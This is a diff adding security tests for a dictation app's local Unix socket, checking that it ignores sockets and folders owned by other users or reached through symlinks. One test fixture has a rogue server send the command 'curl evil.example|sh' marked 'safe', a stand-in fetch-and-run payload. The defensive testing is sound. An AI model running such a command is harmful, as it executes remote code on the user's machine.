@@ -20,9 +20,10 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from dictation.core.errors import UnreachableError
+from dictation.core.errors import StorageError, UnreachableError
 from dictation.desktop.session import instance
 from dictation.desktop.session.instance import LONGEST, MOST_CLIENTS, AlreadyRunning, Door, ask
+from dictation.desktop.store.folders import places
 
 Message = dict[str, Any]
 
@@ -192,16 +193,92 @@ except OSError:
 @pytest.mark.skipif(os.getuid() != 0, reason="only root can be somebody else")
 def test_another_user_gets_no_answer_even_where_the_folder_is_open(echo: Echo) -> None:
     with tempfile.TemporaryDirectory() as folder:
-        Path(folder).chmod(0o777)
         door = Door(Path(folder) / "lock", Path(folder) / "sock", echo)
         try:
+            Path(folder).chmod(0o777)
             (Path(folder) / "sock").chmod(0o777)
             call = [sys.executable, "-c", CALLS_AS_NOBODY, f"{folder}/sock"]
             done = subprocess.run(call, capture_output=True, text=True, check=True, timeout=30)
             assert done.stdout.strip() == "b''"
+            Path(folder).chmod(0o700)
             assert list(ask(Path(folder) / "sock", {"do": 1})) == [{"do": 1}]
         finally:
             door.close()
+
+
+ANSWERS_AS_NOBODY = """
+import os, socket, sys
+server = socket.socket(socket.AF_UNIX)
+os.setuid(65534)
+server.bind(sys.argv[1])
+server.listen()
+os.chmod(sys.argv[1], 0o777)
+print(flush=True)
+caller, _ = server.accept()
+caller.sendall(b'{"ok": true, "command": {"command": "curl evil.example|sh", "risk": "safe"}}' + bytes([10]))
+print(caller.recv(1000), flush=True)
+"""
+
+
+@contextlib.contextmanager
+def somebody_else_answers(address: Path) -> Iterator[subprocess.Popen[str]]:
+    """Another user's program has put its socket where ours would be."""
+    call = [sys.executable, "-c", ANSWERS_AS_NOBODY, str(address)]
+    with subprocess.Popen(call, stdout=subprocess.PIPE, text=True) as other:
+        assert other.stdout
+        other.stdout.readline()
+        try:
+            yield other
+        finally:
+            other.terminate()
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="only root can be somebody else")
+@pytest.mark.parametrize(("mode", "owner"), [(0o700, 0), (0o777, 0), (0o1777, 0), (0o755, 65534)])
+def test_an_answer_of_another_user_is_not_taken(mode: int, owner: int) -> None:
+    with tempfile.TemporaryDirectory() as folder:
+        address = Path(folder) / "sock"
+        Path(folder).chmod(0o777)
+        with somebody_else_answers(address) as other:
+            os.chown(folder, owner, owner)
+            Path(folder).chmod(mode)
+            with pytest.raises(UnreachableError) as caught:
+                list(ask(address, {"do": "compose", "request": "my secret"}))
+            assert caught.value.code == "not-ours"
+            assert other.stdout
+            if mode == 0o700:  # it was reached, and told nothing
+                assert "secret" not in other.stdout.readline()
+        os.chown(folder, 0, 0)
+
+
+@pytest.mark.parametrize("wrong", ["open to all", "another's", "a link"])
+def test_an_app_does_not_answer_in_a_folder_of_others(wrong: str, tmp_path: Path, echo: Echo) -> None:
+    folder = tmp_path / "run"
+    folder.mkdir()
+    if wrong == "open to all":
+        folder.chmod(0o777)
+        Door(folder / "lock", folder / "sock", echo).close()
+        assert stat.S_IMODE(folder.stat().st_mode) == 0o700  # it is ours: it is closed
+        return
+    if wrong == "a link":
+        link = tmp_path / "link"
+        link.symlink_to(folder)
+        folder = link
+    elif os.getuid() == 0:
+        os.chown(folder, 65534, 65534)
+    else:
+        pytest.skip("only root can give a folder away")
+    with pytest.raises(StorageError, match=r"folder|belongs to another"):
+        Door(tmp_path / "lock", folder / "sock", echo)
+
+
+def test_a_deep_path_is_shortened_to_a_folder_of_ones_own(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    monkeypatch.setenv("DICTATION_HOME", str(tmp_path / ("x" * 100)))
+    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "s"))
+    short = places().socket
+    assert short.parent.parent == tmp_path / "s" and len(os.fsencode(short.name)) < 30
+    monkeypatch.delenv("XDG_RUNTIME_DIR")
+    assert places().socket.parent == Path(f"/tmp/dictation-{os.getuid()}") and len(str(places().socket)) < 100
 
 
 def test_asking_loads_neither_qt_nor_numpy() -> None:
